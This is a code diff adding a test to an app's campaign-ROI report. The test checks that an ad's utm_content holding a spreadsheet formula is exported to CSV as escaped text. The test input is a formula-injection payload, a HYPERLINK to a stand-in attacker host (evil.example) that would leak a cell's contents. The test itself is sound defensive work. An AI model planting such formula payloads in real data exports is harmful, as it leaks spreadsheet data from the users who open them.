@@ -1,6 +1,6 @@
 import { randomUUID } from 'node:crypto';
 import { recordContactSource } from '@rm/command-api';
-import { offerStreamId, statsDay, unlockStreamId, type DomainEvent } from '@rm/domain';
+import { offerStreamId, statsCsv, statsDay, unlockStreamId, type DomainEvent } from '@rm/domain';
 import { sql } from 'slonik';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { fieldErrorsOf, seedWorld, startTestApp, TEST_PASSWORD, type TestApp, type World } from '@rm/server/testing';
@@ -454,6 +454,27 @@ describe('a candidate who registers from an advertisement', () => {
       unlocks: 1,
       revenue: 25,
     });
+  });
+
+  it("writes an ad's utm_content that is a formula into the admin's ROI CSV as text, never as a live formula", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Details")';
+    const utm = { utm_source: 'instagram', utm_campaign: 'formula', utm_content: formula };
+    const response = await t.call('POST', '/register', await t.anonymous(), registration('formel.werbung@mail.test', utm));
+    expect(response.statusCode, response.body).toBe(201);
+    await t.caughtUp();
+    const roi = await get<{ by_content: Array<{ utm_content: string | null; contacts: number }> }>(
+      '/api/reports/campaign-roi?utm_campaign=formula',
+    );
+    expect(roi.by_content).toMatchObject([{ utm_content: formula, contacts: 1 }]);
+    // The CSV as the reports page writes it from the answer (ReportTable: a row per ad, a column per figure).
+    const csv = statsCsv(
+      {
+        categories: roi.by_content.map((row) => row.utm_content ?? ''),
+        series: [{ name: 'Kontakte', data: roi.by_content.map((row) => row.contacts) }],
+      },
+      'utm_content',
+    );
+    expect(csv).toBe(`\uFEFFutm_content;Kontakte\r\n"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Details"")";1\r\n`);
   });
 
   it('records no source without UTM parameters, and answers 422 for a parameter longer than 200 characters', async () => {
